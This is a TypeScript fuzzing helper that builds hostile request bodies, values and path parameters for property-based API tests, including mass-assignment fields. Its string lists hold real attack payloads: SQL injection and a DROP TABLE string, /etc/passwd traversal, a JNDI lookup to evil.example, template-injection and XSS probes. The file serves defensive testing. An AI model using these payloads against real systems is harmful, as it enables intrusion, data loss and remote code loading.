// Generators of hostile input for the property-based tests: wrong types, overflowing and NaN-like numbers,
// huge and odd strings (NUL, lone surrogates, right-to-left marks, full-width digits), deep nesting,
// injection strings, and the fields a client must never set (mass assignment).
import fc from 'fast-check';
import { z, type ZodType } from 'zod';

const NUMBERS = [
  0,
  -1,
  -0.5,
  1.5,
  2 ** 31,
  -(2 ** 31) - 1,
  2 ** 53 + 2,
  -(2 ** 63),
  1e308,
  -1e308,
  Number.MAX_SAFE_INTEGER,
  Number.MIN_SAFE_INTEGER,
];
const NUMBER_LIKE = [
  'NaN',
  'Infinity',
  '-Infinity',
  '1e309',
  '-1',
  '0x1A',
  '1_000',
  '١٢٣',
  '９９',
  ' 12 ',
  '12abc',
  '-0',
  '1e3',
  '9'.repeat(40),
  `-${'9'.repeat(30)}`,
];
const ODD_STRINGS = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\ud800',
  '\u202eevil\u202c',
  '😀'.repeat(60),
  'Ａ'.repeat(300),
  'null',
  'undefined',
  '[]',
  '{}',
  '2026-02-30',
  '2026-13-01',
  '0000-00-00',
  '9999-12-31 99:99',
  "' OR 1=1 --",
  "'; drop table orders; --",
  '%',
  '_',
  '\\',
  '../../etc/passwd',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '__proto__',
];

const nested = (depth: number, leaf: unknown, asArray: boolean): unknown => {
  let value = leaf;
  for (let i = 0; i < depth; i += 1) value = asArray ? [value] : { a: value };
  return value;
};

/** Text a database refuses (NUL) or mangles (lone surrogates), hidden inside otherwise plausible text. */
export const unstorableText: fc.Arbitrary<string> = fc
  .tuple(fc.string({ maxLength: 10 }), fc.constantFrom('\u0000', '\ud800', '\udfff'))
  .map(([text, bad]) => `${text}${bad}${text}`);

export const hostileScalar: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...NUMBER_LIKE, ...ODD_STRINGS) },
  { weight: 2, arbitrary: fc.constantFrom<unknown>(null, true, false, ...NUMBERS) },
  { weight: 1, arbitrary: fc.string({ maxLength: 30, unit: 'binary' }) },
  { weight: 1, arbitrary: fc.string({ maxLength: 30, unit: 'grapheme' }) },
  { weight: 1, arbitrary: unstorableText },
  { weight: 1, arbitrary: fc.oneof(fc.integer(), fc.double({ noNaN: true })) },
  { weight: 1, arbitrary: fc.constant('x'.repeat(200_000)) },
);

export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: hostileScalar },
  { weight: 1, arbitrary: fc.array(hostileScalar, { maxLength: 5 }) },
  { weight: 1, arbitrary: fc.dictionary(fc.string({ maxLength: 8 }), hostileScalar, { maxKeys: 4 }) },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.integer({ min: 20, max: 1500 }), hostileScalar, fc.boolean())
      .map(([depth, leaf, asArray]) => nested(depth, leaf, asArray)),
  },
);

/** Fields a client must never set: ids, generated codes, state, timestamps and computed money. */
export const FORBIDDEN_FIELDS: Record<string, unknown> = {
  id: 987_654,
  id_company: 987_654,
  invoice_number: 'INV/2099/12/9999',
  code_company: 'HAK9999',
  code_voucher: 'HACKED99',
  kode_paket: 'PKG-209912-9999',
  status: 2,
  is_canceled: 1,
  payment_proof: '../../etc/passwd',
  created_at: '2000-01-01T00:00:00.000Z',
  created_on: '2000-01-01T00:00:00.000Z',
  created_by: 987_654,
  admin_id: 987_654,
  start_period: '2000-01-01',
  end_period: '2099-12-31',
  price: '1',
  total_disc: '999999999',
  price_product_item: '1',
  price_user_package: '1',
  price_storage_package: '1',
  price_extra_package: '1',
  voucher_discount: '999999999',
  total_price: '1',
  previous_total: '1',
  total_prorate: '1',
  sisa_bayar: '-999999999',
  total_user: 999_999,
  nominal2: 'Rp. 1',
  invoice_sent_at: '2000-01-01T00:00:00.000Z',
};

/** The top-level input fields a zod body schema declares (for input, before transforms). */
export function inputFields(schema: ZodType | undefined): string[] {
  if (!schema) return [];
  try {
    const json = z.toJSONSchema(schema, { io: 'input', unrepresentable: 'any' }) as {
      properties?: Record<string, unknown>;
    };
    return Object.keys(json.properties ?? {});
  } catch {
    return [];
  }
}

/** Payloads for one write route: hostile whole bodies, one field of a good payload spoiled, extra fields. */
export function hostilePayload(fields: string[], valid: Record<string, unknown>): fc.Arbitrary<unknown> {
  const names = fields.length > 0 ? fields : ['name'];
  return fc.oneof(
    hostileValue,
    fc.tuple(fc.constantFrom(...names), hostileValue).map(([field, value]) => ({ ...valid, [field]: value })),
    fc
      .dictionary(fc.constantFrom(...names), hostileValue, { minKeys: 1, maxKeys: names.length })
      .map((spoiled) => ({ ...valid, ...spoiled })),
    fc.subarray(Object.keys(FORBIDDEN_FIELDS), { minLength: 1 }).chain((keys) =>
      fc.tuple(fc.constantFrom(...names), hostileValue).map(([field, value]) => ({
        ...valid,
        ...Object.fromEntries(keys.map((key) => [key, FORBIDDEN_FIELDS[key]])),
        [field]: value,
      })),
    ),
  );
}

/** Path parameters a router must refuse or not find (never crash on). */
export const hostileParam: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '0',
    '-1',
    'abc',
    '1.5',
    '1e3',
    '99999999999',
    '2147483648',
    '%00',
    '1%20OR%201%3D1',
    "1'",
    '..%2F..%2Fetc',
    '0x1',
    '%F0%9F%98%80',
    'NaN',
    '%20',
  ),
  fc.string({ minLength: 1, maxLength: 20 }).map(encodeURIComponent),
);
